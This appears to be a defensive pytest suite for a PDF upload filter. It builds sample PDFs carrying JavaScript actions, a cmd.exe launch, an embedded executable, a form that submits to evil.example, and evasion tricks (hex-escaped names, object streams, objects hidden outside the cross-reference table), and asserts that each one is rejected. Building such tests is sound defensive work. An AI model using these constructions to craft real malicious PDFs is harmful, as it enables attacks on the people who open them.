"""sidecar/pdfs.py: a PDF that can act (script, launch, submit, import, embedded files) is found, whatever way it is
written; one that only shows pages, links and a first view is not. Through clean(): the upload's 400 naming file."""
from __future__ import annotations

import io
import re
import zlib

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, NameObject, NumberObject, TextStringObject,
)

from sidecar.pdfs import active_content
from sidecar.uploads import UploadRejected, clean
from tests.test_uploads import pdf_file


def name(text: str) -> NameObject:
    return NameObject(text)


def action(kind: str, **entries) -> DictionaryObject:
    return DictionaryObject({name("/Type"): name("/Action"), name("/S"): name(kind),
                             **{name(f"/{k}"): v for k, v in entries.items()}})


JS = action("/JavaScript", JS=TextStringObject("app.alert('hi');"))


def build(change) -> bytes:
    """A one-page PDF (pypdf's writer) that change(writer, page) has added to."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=200, height=200)
    change(writer, page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def catalog(key: str, value):
    return lambda writer, page: writer.root_object.__setitem__(name(key), writer._add_object(value)
                                                                 if isinstance(value, DictionaryObject) else value)


def on_page(key: str, value):
    return lambda writer, page: page.__setitem__(name(key), value)


def annotation(annot: DictionaryObject):
    def change(writer, page):
        annot.update({name("/Type"): name("/Annot"), name("/Rect"): ArrayObject([FloatObject(0)] * 4)})
        page[name("/Annots")] = ArrayObject([writer._add_object(annot)])
    return change


def submitting_form(writer, page):
    field = DictionaryObject({name("/FT"): name("/Btn"), name("/T"): TextStringObject("send"),
                              name("/Subtype"): name("/Widget"), name("/Rect"): ArrayObject([FloatObject(0)] * 4),
                              name("/A"): action("/SubmitForm", F=TextStringObject("https://evil.example/collect"))})
    ref = writer._add_object(field)
    page[name("/Annots")] = ArrayObject([ref])
    writer.root_object[name("/AcroForm")] = DictionaryObject({name("/Fields"): ArrayObject([ref])})


def attached(writer, page):
    writer.add_attachment("payload.exe", b"MZ\x90\x00not really a program")


def escaped_open_action() -> bytes:
    """/OpenAction's /S written /J#61vaScript (7.3.5: the same name): pypdf decodes it, the byte search too."""
    data = build(catalog("/OpenAction", JS))
    return data.replace(b"/JavaScript", b"/J#61vaScript")


def script_in_an_object_stream() -> bytes:
    """A PDF 1.5 file whose catalog's /OpenAction script sits compressed in an object stream (7.5.7)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
               b"<< /S /JavaScript /JS (app.alert(1)) >>"]
    header, body, offset = [], b"", 0
    for number, obj in enumerate(objects, start=1):
        header.append(f"{number} {offset}".encode())
        body += obj + b"\n"
        offset = len(body)
    head = b" ".join(header) + b"\n"
    packed = zlib.compress(head + body)
    out = b"%PDF-1.5\n"
    stm_offset = len(out)
    out += (f"5 0 obj\n<< /Type /ObjStm /N {len(objects)} /First {len(head)} /Filter /FlateDecode "
            f"/Length {len(packed)} >>\nstream\n").encode() + packed + b"\nendstream\nendobj\n"
    xref_offset = len(out)
    rows = [b"\x00\x00\x00\x00\xff\xff"] + [bytes([2]) + (5).to_bytes(3, "big") + bytes([0, i])
                                           for i in range(len(objects))] + [b"\x01" + stm_offset.to_bytes(3, "big")
                                                                             + b"\x00\x00"]
    xref = b"".join(rows)
    out += (f"6 0 obj\n<< /Type /XRef /Size 7 /W [1 3 2] /Root 1 0 R /Length {len(xref)} >>\nstream\n").encode()
    out += xref + b"\nendstream\nendobj\n" + f"startxref\n{xref_offset}\n%%EOF\n".encode()
    return out


def outside_the_table() -> bytes:
    """An action object the cross-reference table does not list (viewers that rebuild the table find it)."""
    data, hidden = pdf_file(), b"99 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"
    at = data.rfind(b"\nxref") + 1
    head, tail = data[:at], data[at:]
    start = re.search(rb"startxref\s+(\d+)", tail)
    moved = str(int(start.group(1)) + len(hidden)).encode()
    return head + hidden + tail[:start.start(1)] + moved + tail[start.end(1):]


ACTIVE = [
    pytest.param(build(catalog("/OpenAction", JS)), id="open-action-javascript"),
    pytest.param(build(catalog("/Names", DictionaryObject({name("/JavaScript"): DictionaryObject(
        {name("/Names"): ArrayObject([TextStringObject("x"), JS])})}))), id="document-javascript"),
    pytest.param(build(catalog("/OpenAction", action("/Launch", F=TextStringObject("cmd.exe")))), id="launch"),
    pytest.param(build(on_page("/AA", DictionaryObject({name("/O"): action("/GoTo")}))), id="page-additional-actions"),
    pytest.param(build(catalog("/AA", DictionaryObject({name("/WC"): JS}))), id="document-additional-actions"),
    pytest.param(build(attached), id="embedded-file"),
    pytest.param(build(submitting_form), id="form-that-submits"),
    pytest.param(build(catalog("/AcroForm", DictionaryObject({name("/Fields"): ArrayObject(),
                                                              name("/XFA"): TextStringObject("<xdp/>")}))), id="xfa"),
    pytest.param(build(annotation(DictionaryObject({name("/Subtype"): name("/Link"),
                                                    name("/A"): action("/ImportData", F=TextStringObject("d.fdf"))}))),
                 id="import-data"),
    pytest.param(build(annotation(DictionaryObject({name("/Subtype"): name("/Link"),
                                                    name("/A"): action("/GoToE", NewWindow=NumberObject(1))}))),
                 id="goto-embedded"),
    pytest.param(build(annotation(DictionaryObject({name("/Subtype"): name("/Screen"),
                                                    name("/A"): action("/Rendition", OP=NumberObject(0))}))),
                 id="rendition"),
    pytest.param(build(annotation(DictionaryObject({name("/Subtype"): name("/Link"), name("/A"): JS}))),
                 id="link-running-javascript"),
    pytest.param(escaped_open_action(), id="hex-escaped-name"),
    pytest.param(script_in_an_object_stream(), id="object-stream"),
    pytest.param(outside_the_table(), id="object-outside-the-table"),
]


def link_to(url: str):
    return annotation(DictionaryObject({name("/Subtype"): name("/Link"),
                                        name("/A"): action("/URI", URI=TextStringObject(url))}))


def first_view(writer, page):
    writer.root_object[name("/OpenAction")] = ArrayObject([page.indirect_reference, name("/Fit")])


def content_stream_with_names(writer, page):
    # A content stream may say anything in its data (here a marked-content tag named JS): data is not an action.
    stream = DecodedStreamObject()
    stream.set_data(b"/JS BMC EMC /AA BMC EMC")
    page[name("/Contents")] = writer._add_object(stream)


INERT = [
    pytest.param(pdf_file(), id="plain"),
    pytest.param(pdf_file(pages=3), id="pages"),
    pytest.param(build(link_to("https://example.com/")), id="link"),
    pytest.param(build(first_view), id="open-action-first-view"),
    pytest.param(build(content_stream_with_names), id="names-inside-stream-data"),
]


@pytest.mark.parametrize("data", ACTIVE)
def test_a_pdf_that_can_act_is_found(data):
    assert active_content(PdfReader(io.BytesIO(data)), data)


@pytest.mark.parametrize("data", INERT)
def test_a_pdf_that_only_shows_is_not(data):
    assert active_content(PdfReader(io.BytesIO(data)), data) == ""


@pytest.mark.parametrize("data", ACTIVE)
def test_an_upload_of_a_pdf_that_can_act_is_the_400_naming_file(data):
    with pytest.raises(UploadRejected) as refused:
        clean(data)
    assert refused.value.status == 400 and refused.value.data == {"field": "file"}
    assert refused.value.msg == "不支持含脚本、附件或表单提交等可执行内容的 PDF 文件"


@pytest.mark.parametrize("data", INERT)
def test_an_inert_pdf_is_stored_as_it_came(data):
    cleaned = clean(data)
    assert (cleaned.mime, bytes(cleaned.data)) == ("application/pdf", data)
